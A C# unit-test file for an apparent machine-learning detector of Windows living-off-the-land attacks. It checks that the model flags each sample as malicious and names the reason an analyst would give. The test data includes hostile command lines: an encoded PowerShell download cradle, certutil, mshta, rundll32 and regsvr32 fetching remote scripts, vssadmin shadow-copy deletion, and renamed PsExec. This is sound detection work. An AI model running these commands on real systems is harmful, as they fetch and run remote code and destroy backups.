using Changeling.Events;
using Changeling.Features;
using Changeling.Scoring;
using Changeling.TestSupport;

namespace Changeling.Training.Tests;

/// <summary>
/// Well-known attacks: the shipped model classifies each as malicious, and the first reason that it gives is the one that an analyst would
/// give.
/// </summary>
public class AnalystReasonTests
{
    private static readonly MlModel Model = new(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));

    private const string Winword = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
    private const string Explorer = @"C:\Windows\explorer.exe";
    private const string System32 = @"C:\Windows\System32\";
    private const string Cmd = System32 + "cmd.exe";
    private const string PowerShell = System32 + @"WindowsPowerShell\v1.0\powershell.exe";

    [Theory]
    [InlineData(Winword, PowerShell,
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
        "hidden, encoded or in-memory PowerShell")]
    [InlineData(Cmd, System32 + "certutil.exe", @"certutil -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt",
        "downloads code from the network")]
    [InlineData(Cmd, System32 + "rundll32.exe",
        @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")",
        "script run through a trusted program")]
    [InlineData(Cmd, System32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll",
        "script run through a trusted program")]
    [InlineData(Explorer, System32 + "mshta.exe", "mshta http://203.0.113.9/update.hta", "downloads code from the network")]
    [InlineData(Cmd, System32 + @"wbem\WMIC.exe", @"wmic process call create ""cmd /c C:\Users\Public\run.bat""",
        "command run on another machine")]
    [InlineData(PowerShell, Cmd, @"""C:\Windows\system32\cmd.exe"" /c vssadmin delete shadows /all /quiet", "backups or recovery disabled")]
    [InlineData(@"C:\Users\mara.lind\Downloads\invoice.exe", Cmd, "cmd /c whoami /all", "discovery of the domain")]
    public void The_first_reason_is_the_one_that_an_analyst_would_give(string parent, string child, string commandLine, string first) =>
        AssertFirst(Event(parent, child, commandLine), first);

    [Fact]
    public void The_first_reason_for_a_renamed_tool_names_the_tool_that_it_was()
    {
        var e = Event(Cmd, @"C:\Users\Public\hpsupd.exe", @"hpsupd.exe \\srv02 -accepteula -s cmd.exe");

        AssertFirst(e with { Child = e.Child with { OriginalFileName = "psexec.c" } }, "psexec");
    }

    private static void AssertFirst(ProcessEvent e, string first)
    {
        var reasons = Model.Explain(e).Reasons(6);
        var all = string.Join("\n", reasons.Select(r => $"{r.Weight:+0.00;-0.00} {r.Description} [{r.Text}]"));

        Assert.True(Model.Predict(e).IsMalicious, all);
        Assert.True(reasons[0].Weight > 0 && $"{reasons[0].Description}: {reasons[0].Text}".Contains(first, StringComparison.Ordinal), all);
    }

    private static ProcessEvent Event(string parent, string child, string commandLine)
    {
        var e = Some.ProcessEvent(Name(parent), Name(child), commandLine);
        return e with { Child = e.Child with { Path = child, Integrity = IntegrityLevel.Medium }, Parent = e.Parent! with { Path = parent } };
    }

    private static string Name(string path) => path[(path.LastIndexOf('\\') + 1)..].ToLowerInvariant();
}
